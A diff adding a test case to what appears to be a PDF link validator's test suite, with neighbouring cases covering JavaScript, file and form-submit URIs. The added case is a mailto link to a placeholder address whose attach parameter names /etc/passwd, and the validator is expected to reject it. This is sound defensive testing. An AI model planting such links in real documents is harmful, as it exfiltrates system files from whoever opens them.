@@ -101,6 +101,12 @@ VARIANTS: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
         _link_action(Dictionary(S=Name.URI, URI=String(" JavaScript:x"))),
         "pdf-uri-not-allowed",
     ),
+    "mailto-attach": (
+        _link_action(
+            Dictionary(S=Name.URI, URI=String("mailto:a@town.example?subject=x&attach=/etc/passwd"))
+        ),
+        "pdf-uri-not-allowed",
+    ),
     "file-uri": (_link_action(Dictionary(S=Name.URI, URI=String("file:///C:/x.exe"))), "pdf-uri-not-allowed"),
     "submit-form": (
         _link_action(Dictionary(S=Name.SubmitForm, F=String("http://x"))),
